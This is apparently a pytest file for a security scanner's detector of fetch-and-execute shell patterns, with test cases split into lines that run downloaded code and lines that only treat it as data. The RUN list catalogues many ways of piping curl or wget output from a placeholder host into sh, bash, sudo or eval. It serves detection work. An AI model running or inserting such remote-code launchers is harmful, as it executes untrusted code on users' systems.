"""What is fetched and run, in all the ways in which a shell is handed it; and the near misses, where it is only data."""

import pytest

from scanner.detectors.launchers import bash, linewise
from scanner.detectors.launchers.lines import Script
from scanner.detectors.launchers.shell import run
from scanner.detectors.launchers.syntax import Parse

GET = "curl https://a.example/x"
RUN = f"""\
$({GET})
`{GET}`
exec $({GET})
f() {{ $({GET}); }}; f
if $({GET}); then true; fi
eval `{GET}`
sh -c "set -e; $({GET})"
sh -c "$({GET}) --yes"
sh <<< "$({GET})"
source /dev/stdin <<< "$({GET})"
S=$({GET}); eval "$S"
S=$({GET}); sh -c "$S"
S="$(wget -qO- https://a.example/x)"; bash -c "${{S}}"
export S=$({GET}); eval "${{S:?}}"
S=$({GET}); echo "$S" | sh
S=$({GET}); printf '%s\\n' "$S" | bash -s -- -y
S=$({GET}); sh <<< "$S"
S=$({GET}); $S
S=$({GET}); echo "$S" > x.sh; sh x.sh
S=$({GET}); python3 -c "$S"
python -c "$({GET})"
source <({GET})
. <({GET})
bash -euo pipefail < <({GET})
{GET} | . /dev/stdin
{GET} | bash -o pipefail
{GET} | php -- --install-dir=/x
{GET} | xargs -0 sh -c
{GET} | xargs -I{{}} sh -c '{{}}'
{GET} | env -i A=b bash
{GET} | sudo -E bash -
{GET} | sudo -s
{GET} | su
{GET} | su - user -c 'bash -s'
{GET} | busybox sh
busybox wget -O- https://a.example/x | sh
wget -qO- https://a.example/x | tee x | sh
wget -qO- https://a.example/x | tee x.sh; sh x.sh
su -c "$({GET})"
sudo bash -c "$({GET})"
wget -P /tmp https://a.example/x.sh; sh /tmp/x.sh
curl --output-dir /tmp -O https://a.example/x.sh; sh /tmp/x.sh
{GET} > x.sh; sh x.sh
{GET} -o x.sh; mv x.sh y.sh; sh y.sh
{GET} -o x.sh; install -m 755 x.sh /usr/local/bin/setup.sh; setup.sh
{GET} -o x.sh; cat x.sh | sh
{GET} -o x.sh; bash < x.sh
{GET} -o x.sh; bash -euo pipefail x.sh
{GET} -o x.sh; bash -e x.sh
{GET} -o x.py; python3 -W ignore x.py
"""
DATA = f"""\
S=$(date); eval "$S"
S=$({GET}); S=$(date); eval "$S"
eval "$(ssh-agent -s)"
source <(kubectl completion bash)
echo "$({GET})"
grep "$({GET})" f
test "$({GET})" = ok
case "$({GET})" in a) true;; esac
for i in $({GET}); do echo $i; done
V=$({GET}); curl -o t https://a.example/$V/t
V=$({GET}); sh build.sh "$V"
sh deploy.sh "$({GET})"
python3 up.py "$({GET})"
python3 -m pip install "x==$({GET})"
./configure --v="$({GET})"
{GET} | ./bin/load
{GET} | /opt/install-data
{GET} | sh import.sh
{GET} | python3 load.py
{GET} | python3 -m json.tool
{GET} | xargs -n1 sh process.sh
{GET} | xargs wget
until $(curl --output /dev/null --silent --head --fail http://a.example/x); do sleep 1; done
if $(curl -s https://a.example/x | grep -q ok); then true; fi
echo "$({GET})" > /etc/apt/keyrings/x.gpg
echo "$({GET})" > /version
"""
READERS = {"grammar": bash.statements(60), "lines": linewise.statements}


def fetched(text: str, parse: Parse) -> set[str]:
    return {one.fetched for one in run((Script(text),), parse).commands} - {""}


@pytest.mark.parametrize("reader", READERS)
def test_what_is_fetched_and_run_is_known_whatever_hands_it_on(reader: str) -> None:
    found = {text: fetched(text, READERS[reader]) for text in RUN.splitlines()}
    missed = [text for text, urls in found.items() if not urls]
    assert not missed
    assert {url.removesuffix(".sh").removesuffix(".py") for urls in found.values() for url in urls} == {
        "https://a.example/x"
    }


@pytest.mark.parametrize("reader", READERS)
def test_what_is_only_data_is_none(reader: str) -> None:
    assert not [text for text in DATA.splitlines() if fetched(text, READERS[reader])]


def test_text_that_only_becomes_a_file_is_not_run_yet() -> None:
    text = f"cat > /x.sh <<EOF\n$({GET})\nEOF\n"
    assert not fetched(text, READERS["grammar"])
    assert fetched(f"sh <<EOF\n$({GET})\nEOF\n", READERS["grammar"])
